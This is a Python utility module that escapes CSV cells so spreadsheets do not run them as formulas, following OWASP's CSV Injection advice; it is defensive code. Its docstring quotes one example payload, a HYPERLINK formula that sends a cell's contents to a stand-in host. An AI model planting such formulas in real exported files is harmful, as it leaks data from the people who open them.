"""Cells that come from the data (labels, class names, paths) written into CSV files safely.

Excel and LibreOffice run a cell that starts with `=`, `+`, `-` or `@` as a formula (a leading
tab or carriage return can hide one): a label `=HYPERLINK("http://x/?"&A2)` would act when someone
opens predictions.csv. OWASP (CSV Injection): prefix such cells with a single quote, shown as text.
Plain numbers (`-0.5`, `+3`, `1e-3`) are left alone: not formulas, and a quote would turn a class
named `-1` into text that no longer matches its label.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(cell: object) -> str:
    """`cell` as text, with a leading `'` when a spreadsheet would read it as a formula."""
    text = str(cell)
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
